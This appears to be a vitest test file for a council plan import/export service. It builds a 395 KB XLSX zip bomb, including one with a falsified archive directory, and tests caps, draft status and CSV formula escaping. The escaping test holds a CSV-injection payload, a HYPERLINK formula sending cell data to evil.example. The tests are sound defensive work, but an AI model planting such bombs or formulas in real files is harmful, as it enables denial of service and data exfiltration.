// Issue 16, imports: a zip bomb (a 395 KB XLSX whose one cell inflates to 400 MB, built
// here with a zip writer) is refused from its archive directory before anything inflates
// it, fast and with bounded memory, as is one whose directory lies about its sizes; rows,
// cells and problems are capped; an imported plan is a DRAFT unless the import publishes
// it; the CSV export escapes formula-leading cells (OWASP CSV injection) and reads them
// back as written, so export → import still changes nothing.
import { Readable } from 'node:stream';
import yazl from 'yazl';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PETERBOROUGH_HEADER, PETERBOROUGH_ROWS, councilsViewer, csv, exportPlan, importFile } from './support/import-files';
import { databases, type TestServer } from './support/servers';

/** RFC 4180 records (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') records.at(-1)!.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') records.at(-1)!.push(cell), (cell = ''), records.push([]), i++;
    else cell += ch;
  }
  if (cell || records.at(-1)!.length) records.at(-1)!.push(cell);
  return records.filter((r) => r.length);
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const column = (i: number) => String.fromCharCode(65 + i);
const rowXml = (r: number, cells: string[]) => `<row r="${r}">${cells.map((c, i) => `<c r="${column(i)}${r}" t="inlineStr"><is><t>${esc(c)}</t></is></c>`).join('')}</row>`;

/**
 * A minimal XLSX workbook written part by part with yazl. The sheet holds the header and
 * the given rows; `bigCell` bytes of "A" are streamed into the Intent cell of one more row
 * (so the file is small and the part inflates to `bigCell` bytes).
 */
async function workbook(rows: string[][], bigCell = 0): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  const add = (name: string, text: string) => zip.addBuffer(Buffer.from(text), name, { compressionLevel: 9 });
  add('[Content_Types].xml', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`);
  add('_rels/.rels', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`);
  add('xl/workbook.xml', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Plan" sheetId="1" r:id="rId1"/></sheets></workbook>`);
  add('xl/_rels/workbook.xml.rels', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`);
  const head = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${[PETERBOROUGH_HEADER, ...rows].map((r, i) => rowXml(i + 1, r)).join('')}`;
  const big = rows.length + 2;
  const tail = bigCell ? `</t></is></c><c r="C${big}" t="inlineStr"><is><t>Step</t></is></c><c r="D${big}" t="inlineStr"><is><t>Impact</t></is></c><c r="E${big}" t="inlineStr"><is><t>Now</t></is></c></row></sheetData></worksheet>` : '</sheetData></worksheet>';
  async function* sheet() {
    yield Buffer.from(head);
    if (bigCell) {
      yield Buffer.from(`<row r="${big}"><c r="A${big}" t="inlineStr"><is><t>Big</t></is></c><c r="B${big}" t="inlineStr"><is><t>`);
      const chunk = Buffer.alloc(1024 * 1024, 'A');
      for (let left = bigCell; left > 0; left -= chunk.length) yield left >= chunk.length ? chunk : chunk.subarray(0, left);
    }
    yield Buffer.from(tail);
  }
  zip.addReadStream(Readable.from(sheet()), 'xl/worksheets/sheet1.xml', { compressionLevel: 9 });
  zip.end();
  const parts: Buffer[] = [];
  for await (const part of zip.outputStream) parts.push(part as Buffer);
  return Buffer.concat(parts);
}

/** The archive with one entry's declared (central directory) uncompressed size replaced: a directory that lies. */
function lyingDirectory(zip: Buffer, name: string, declared: number): Buffer {
  const out = Buffer.from(zip);
  for (let at = out.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06])), i = out.readUInt32LE(at + 16); i < at; ) {
    const nameLength = out.readUInt16LE(i + 28);
    if (out.toString('utf8', i + 46, i + 46 + nameLength) === name) {
      out.writeUInt32LE(declared, i + 24);
      return out;
    }
    i += 46 + nameLength + out.readUInt16LE(i + 30) + out.readUInt16LE(i + 32);
  }
  throw new Error(`no entry ${name}`);
}

describe.each(await databases())('Import hardening on $name', (database) => {
  let server: TestServer;
  let bomb: Buffer;

  beforeAll(async () => {
    server = await database.start();
    bomb = await workbook(PETERBOROUGH_ROWS, 400 * 1024 * 1024);
  }, 120_000);
  afterAll(async () => {
    await server?.stop();
  });

  const planOf = async (slug: string, token?: string) => {
    const q = `query($slug: String!) { plan(slug: $slug) { status version export(format: JSON) } }`;
    return (token ? await server.gqlAs(token, q, { slug }) : await server.gql(q, { slug })).data.plan;
  };

  it('refuses a 395 KB workbook whose one cell inflates to 400 MB before inflating it, fast and in bounded memory', async () => {
    expect(bomb.length).toBeLessThan(500 * 1024);
    // The same workbook with a small cell is a good file: the refusal is the bomb's size.
    const fine = await importFile(server, { council: 'peterborough', planSlug: 'pb-bomb', fileName: 'fine.xlsx', content: await workbook(PETERBOROUGH_ROWS), dryRun: true });
    expect(fine).toMatchObject({ ok: true, created: PETERBOROUGH_ROWS.length });

    const rss = process.memoryUsage().rss;
    const started = performance.now();
    const report = await importFile(server, { council: 'peterborough', planSlug: 'pb-bomb', fileName: 'bomb.xlsx', content: bomb, dryRun: true });
    const took = performance.now() - started;
    const grew = process.memoryUsage().rss - rss;
    console.log(`${database.name}: ${bomb.length} byte bomb refused in ${took.toFixed(0)} ms, rss +${Math.round(grew / 1024 / 1024)} MB`);
    expect(report).toMatchObject({ ok: false, created: 0, changeCount: 0 });
    expect(report.problems).toEqual([expect.objectContaining({ code: 'ARCHIVE_TOO_LARGE', row: null, message: expect.stringContaining('xl/worksheets/sheet1.xml') })]);
    expect(took).toBeLessThan(5_000);
    expect(grew).toBeLessThan(200 * 1024 * 1024);

    // A directory that declares the part small: the proof-reading inflation stops at the declared size.
    const liar = lyingDirectory(bomb, 'xl/worksheets/sheet1.xml', 100_000);
    const t2 = performance.now();
    const lied = await importFile(server, { council: 'peterborough', planSlug: 'pb-bomb', fileName: 'liar.xlsx', content: liar, dryRun: true });
    expect(lied.ok).toBe(false);
    expect(lied.problems).toEqual([expect.objectContaining({ code: 'BROKEN_FILE' })]);
    expect(performance.now() - t2).toBeLessThan(5_000);
    expect(process.memoryUsage().rss - rss).toBeLessThan(200 * 1024 * 1024);

    expect(await planOf('pb-bomb', await councilsViewer())).toBeNull();
    expect((await server.gql(`{ plans(first: 1) { totalCount } }`)).errors).toBeUndefined();
  }, 60_000);

  it('caps rows, cell length and the problems reported', async () => {
    const many = csv([PETERBOROUGH_HEADER, ...Array.from({ length: 5001 }, (_, i) => ['W', `Intent ${i}`, 'Step', 'Impact', 'Now', '', ''])]);
    const rows = await importFile(server, { council: 'peterborough', planSlug: 'pb-caps', fileName: 'many.csv', content: many, dryRun: true });
    expect(rows.problems).toEqual([expect.objectContaining({ code: 'TOO_MANY_ROWS', message: expect.stringContaining('5001 rows') })]);

    const long = PETERBOROUGH_ROWS.map((r) => [...r]);
    long[1]![2] = 'x'.repeat(40_000); // row 3, Implementation: past a cell's 32,767 characters
    long[2]![1] = 'y'.repeat(900); // row 4, Intent: the action's title, past 800 characters
    long[3]![6] = 'a\u0000b'; // row 5, Progress: a NUL
    const cells = await importFile(server, { council: 'peterborough', planSlug: 'pb-caps', fileName: 'long.csv', content: csv([PETERBOROUGH_HEADER, ...long]) });
    expect(cells.ok).toBe(false);
    expect(cells.problems).toEqual([
      expect.objectContaining({ row: 3, column: 'Implementation', code: 'VALUE_TOO_LONG' }),
      expect.objectContaining({ row: 4, column: 'Intent', code: 'INVALID_VALUE', message: expect.stringContaining('800') }),
      expect.objectContaining({ row: 5, column: 'Progress', code: 'INVALID_VALUE', message: expect.stringContaining('NUL') }),
    ]);

    const bad = csv([PETERBOROUGH_HEADER, ...Array.from({ length: 300 }, (_, i) => ['W', `Intent ${i}`, 'Step', 'Impact', 'Now', 'Purple', ''])]);
    const capped = await importFile(server, { council: 'peterborough', planSlug: 'pb-caps', fileName: 'bad.csv', content: bad });
    expect(capped.problems).toHaveLength(101);
    expect(capped.problems.slice(0, 100).every((p) => p.code === 'INVALID_VALUE')).toBe(true);
    expect(capped.problems[100]).toMatchObject({ code: 'TOO_MANY_PROBLEMS', message: expect.stringContaining('and 200 more') });
    expect(await planOf('pb-caps', await councilsViewer())).toBeNull();
  });

  it('imports a plan as a DRAFT unless asked to publish it; publishing a draft by import', async () => {
    const viewer = await councilsViewer();
    const content = csv([PETERBOROUGH_HEADER, ...PETERBOROUGH_ROWS]);
    const drafted = await importFile(server, { council: 'peterborough', planSlug: 'pb-drafted', fileName: 'pb.csv', content });
    expect(drafted.ok).toBe(true);
    expect(await planOf('pb-drafted')).toBeNull();
    const own = await planOf('pb-drafted', viewer);
    expect(own.status).toBe('DRAFT');
    // The same file, published: no row changes, the plan's status does.
    const published = await importFile(server, { council: 'peterborough', planSlug: 'pb-drafted', fileName: 'pb.csv', content, publish: true });
    expect(published).toMatchObject({ ok: true, created: 0, updated: 0, deleted: 0, unchanged: PETERBOROUGH_ROWS.length, changeCount: 1 });
    expect((await planOf('pb-drafted')).status).toBe('PUBLISHED');
    // A JSON export of a published plan imported elsewhere is a draft again.
    const json = await exportPlan(server, 'pb-drafted', 'JSON');
    const copy = await importFile(server, { council: 'peterborough', planSlug: 'pb-copy', fileName: 'copy.json', content: Buffer.from(json) });
    expect(copy.ok).toBe(true);
    expect((await planOf('pb-copy', viewer)).status).toBe('DRAFT');
    const fresh = await importFile(server, { council: 'peterborough', planSlug: 'pb-public', fileName: 'pb.csv', content, publish: true });
    expect(fresh.ok).toBe(true);
    expect((await planOf('pb-public')).status).toBe('PUBLISHED');
  });

  it('escapes formula-leading cells in the CSV export and reads them back as written', async () => {
    const formulas = [
      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'Impact one', '+44 1733 000000', 'Green', '@SUM(A1:A9)'],
      // A cell starting with a quote before a formula character is read as the escape a
      // spreadsheet shows as text ("=already quoted"); the export writes it escaped again.
      ['-1 school below floor', "'=already quoted\n''=doubly quoted", 'Impact two', 'Amber', "Plain '=text"],
    ];
    const rows = formulas.map(([intent, impl, impact, rag, progress], i) => [`Workstream ${i}`, intent!, impl!, impact!, 'Autumn 2026', rag!, progress!]);
    const first = await importFile(server, { council: 'peterborough', planSlug: 'pb-formulas', fileName: 'f.csv', content: csv([PETERBOROUGH_HEADER, ...rows]), publish: true });
    expect(first.problems).toEqual([]);
    const exported = await exportPlan(server, 'pb-formulas', 'CSV');
    const cells = (parseCsv(exported) as string[][]).slice(1).flat();
    // No cell a spreadsheet would run as a formula.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining([`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'+44 1733 000000", "'@SUM(A1:A9)", "'-1 school below floor", "'=already quoted\n''=doubly quoted", "Plain '=text"]));
    // The export imports back without a change, and the plan holds the text as written.
    const back = await importFile(server, { council: 'peterborough', planSlug: 'pb-formulas', fileName: 'f.csv', content: Buffer.from(exported) });
    expect(back).toMatchObject({ ok: true, created: 0, updated: 0, deleted: 0, changeCount: 0 });
    const titles = (await server.gql(`{ plan(slug: "pb-formulas") { actions { title } } }`)).data.plan.actions.map((a: any) => a.title);
    expect(titles).toEqual([formulas[0]![0], formulas[1]![0]]);
  });
});
